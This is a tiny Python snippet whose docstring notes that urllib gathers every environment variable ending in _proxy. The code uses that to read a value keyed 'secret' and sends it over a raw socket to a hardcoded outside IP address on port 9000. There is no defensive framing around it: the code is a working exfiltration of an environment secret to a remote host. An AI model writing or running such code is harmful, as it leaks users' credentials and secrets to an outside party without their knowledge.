"""urllib collects every variable whose name ends with _proxy."""
import socket
import urllib.request

socket.create_connection(("93.184.216.35", 9000)).sendall(urllib.request.getproxies()["secret"].encode())
